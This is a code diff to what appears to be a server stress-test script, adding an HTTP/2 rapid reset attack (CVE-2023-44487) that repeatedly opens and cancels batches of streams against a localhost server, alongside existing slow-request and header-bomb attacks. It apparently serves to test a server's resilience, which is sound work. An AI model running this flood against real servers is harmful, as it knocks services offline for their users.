@@ -7,10 +7,13 @@ connections the server still has.
 from __future__ import annotations
 
 import asyncio
+import itertools
 import json
 import ssl
 import sys
 from collections.abc import Awaitable, Callable
+
+from support import http2
 
 HOST = "127.0.0.1"
 CLIENTS = 1600
@@ -95,10 +98,33 @@ async def header_bombs(reader, writer) -> None:
         await asyncio.sleep(1)
 
 
+_ASKED = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"www.example.com")]
+
+
+async def reset_streams(reader, writer) -> None:
+    """HTTP/2's rapid reset (CVE-2023-44487): 100 requests that are given up when they are at the server, and again."""
+    writer.write(http2.BEGUN)
+    ended = asyncio.create_task(_silently(reader))
+    for first in itertools.count(1, 200):
+        streams = range(first, first + 200, 2)
+        for step in (lambda stream: http2.opened(stream, _ASKED), http2.reset):
+            writer.write(b"".join(map(step, streams)))
+            await writer.drain()
+            await asyncio.wait([ended], timeout=0.05)
+        if ended.done():
+            return
+
+
+async def _silently(reader: asyncio.StreamReader) -> None:
+    while await reader.read(65536):
+        pass
+
+
 ATTACKS: dict[str, tuple[Callable, int, bool]] = {
     "slow bodies": (slow_bodies, CLIENTS, False), "slow large bodies": (slow_large_bodies, CLIENTS, False),
     "slow headers": (slow_headers, CLIENTS, False), "slow readers": (slow_readers, CLIENTS, False),
     "idle TLS": (idle, 3000, True), "header bombs": (header_bombs, 100, False),
+    "reset streams": (reset_streams, 10, False),
 }  # fmt: skip
 """Each by what one connection does, how many there are, and whether they are by TLS."""
 
